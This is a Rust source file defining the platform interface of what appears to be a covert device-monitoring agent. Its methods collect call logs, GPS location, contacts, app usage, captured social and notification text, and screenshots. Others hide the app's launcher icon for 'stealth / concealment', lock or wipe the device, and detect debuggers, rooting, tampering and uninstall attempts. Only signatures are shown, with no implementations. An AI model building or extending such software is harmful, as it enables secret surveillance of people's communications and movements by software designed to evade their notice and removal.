//! Platform capability seam.
//!
//! All OS-specific access (call log, GPS, usage stats, notification capture,
//! icon visibility, device admin actions) goes through [`DeviceCapabilities`].
//! Core logic depends only on this trait, never on OS identity. A platform
//! backend implements it once per target; the [`noop`] implementation lets
//! the agent build and run on hosts with no sensor access.

pub mod noop;

pub use noop::NoopCapabilities;

use crate::collector::types::{
    AppId, AppUsageSample, CallEntry, CapturedText, ContactEntry, LocationFix,
};
use chrono::{DateTime, Utc};
use crossbeam_channel::Receiver;

/// Errors surfaced by platform capabilities.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CapabilityError {
    /// The user has not granted the permission backing this capability.
    /// Collectors skip the cycle and retry later.
    PermissionDenied,
    /// The platform does not provide this capability at all.
    Unsupported(&'static str),
    /// The platform call itself failed.
    Platform(String),
}

impl std::fmt::Display for CapabilityError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CapabilityError::PermissionDenied => write!(f, "permission denied"),
            CapabilityError::Unsupported(what) => write!(f, "capability not supported: {what}"),
            CapabilityError::Platform(e) => write!(f, "platform error: {e}"),
        }
    }
}

impl std::error::Error for CapabilityError {}

/// The single platform seam for the agent.
///
/// Sensor reads feed the collectors; the admin actions at the bottom are
/// the defensive/command surface (lockdown, wipe, stealth).
pub trait DeviceCapabilities: Send + Sync {
    /// Call log entries newer than `since` (all entries when `None`).
    fn calls_since(
        &self,
        since: Option<DateTime<Utc>>,
    ) -> Result<Vec<CallEntry>, CapabilityError>;

    /// Most recent GPS fix.
    fn current_location(&self) -> Result<LocationFix, CapabilityError>;

    /// Per-app foreground usage since local midnight.
    fn app_usage_today(&self) -> Result<Vec<AppUsageSample>, CapabilityError>;

    /// Full address book.
    fn contacts(&self) -> Result<Vec<ContactEntry>, CapabilityError>;

    /// App currently in the foreground, `None` when it cannot be determined.
    fn foreground_app(&self) -> Result<Option<AppId>, CapabilityError>;

    /// Channel of captured social/notification text. The platform side
    /// pushes events as they happen; the social collector drains the
    /// channel on its flush interval. Subscribing is tied to agent start,
    /// dropping the receiver unsubscribes.
    fn subscribe_captured_text(&self) -> Result<Receiver<CapturedText>, CapabilityError>;

    /// Hide or show the launcher icon (stealth / concealment).
    fn set_icon_hidden(&self, hidden: bool) -> Result<(), CapabilityError>;

    /// Immediately lock the device (device admin).
    fn lock_device(&self) -> Result<(), CapabilityError>;

    /// Factory-reset the device (device admin).
    fn wipe_device(&self) -> Result<(), CapabilityError>;

    /// Capture the current screen.
    fn take_screenshot(&self) -> Result<(), CapabilityError>;

    /// Whether the installed app matches its expected signature.
    fn app_integrity_ok(&self) -> Result<bool, CapabilityError>;

    /// Whether a debugger is attached to the agent process.
    fn debugger_attached(&self) -> Result<bool, CapabilityError>;

    /// Whether an uninstall flow for the agent has been opened.
    fn uninstall_requested(&self) -> Result<bool, CapabilityError>;

    /// Whether the device is rooted.
    fn device_rooted(&self) -> Result<bool, CapabilityError>;
}
